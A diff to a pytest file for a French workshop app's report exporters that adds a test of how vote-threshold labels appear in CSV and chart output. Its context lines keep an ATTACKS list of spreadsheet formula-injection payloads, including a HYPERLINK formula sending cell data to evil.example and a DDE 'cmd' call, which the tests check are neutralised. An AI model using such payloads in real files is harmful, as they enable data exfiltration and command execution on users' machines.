@@ -13,6 +13,7 @@ import csv
 import io
 import shutil
 import zipfile
+from types import SimpleNamespace
 
 import pytest
 from openpyxl import load_workbook
@@ -22,7 +23,8 @@ from workshop.demo import build_past_demo
 from workshop.models import Activity, CardKind
 from workshop.reports import export_report, export_synthesis
 from workshop.reports.data import DataTable, write_csv_zip, write_sheet_csv_zip
-from workshop.services import cards
+from workshop.reports.figures import stakes_by_college_figure
+from workshop.services import cards, votes
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+SUM(A1:A9)", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3"]
@@ -147,6 +149,22 @@ def test_numbers_stay_numbers_and_text_is_judged_by_its_type(tmp_path):
     assert sheet["essai"][1:] == [["1", "'-2+3", "-2", "-1,5"], ["2", "'\tcachée", "3", "2,25"],
                                   ["3", "'-2", "0", ""], ["4", "'\r=1+1", "1", "0,5"],
                                   ["5", "Comment faire ? 2 = 2", "2", "1"]]
+
+
+def test_not_broken_down_says_the_number_of_voters_the_rule_uses(tmp_path, monkeypatch):
+    """The spreadsheet CSV and the report's chart name the collèges not broken down with the rule's own
+    number (``MIN_VOTERS_SHOWN``): the CSV's word said « moins de 3 votants » whatever the rule was."""
+    monkeypatch.setattr(votes, "MIN_VOTERS_SHOWN", 5)
+    table = DataTable("votes_par_college", "Votes", ("carte_id", "college", "gommettes", "votes"),
+                      [(1, "resident", 6, 3), (1, "non_detaille", 4, 2)])
+    for lang, words in (("fr", "non détaillé (moins de 5 votants)"), ("en", "not broken down (fewer than 5 voters)")):
+        write_sheet_csv_zip([table], tmp_path / f"sheet-{lang}.zip", readme="essai", lang=lang)
+        _, sheet = _zip(tmp_path / f"sheet-{lang}.zip", ";")
+        assert [row[1] for row in sheet["votes_par_college"][1:]][1] == words, lang
+    # the report's chart of the stakes by collège: its grey segment's name in the legend
+    row = SimpleNamespace(text="Un enjeu", dots=10, by_college={"resident": 6}, undetailed=4)
+    legend = [trace.name for trace in stakes_by_college_figure([row], ["resident"], lang="fr").data]
+    assert legend[-1] == "Non détaillé (moins de 5\u00a0votants)", legend
 
 
 def test_data_files_write_plain_spaces_where_the_screens_have_no_break_spaces(creil):
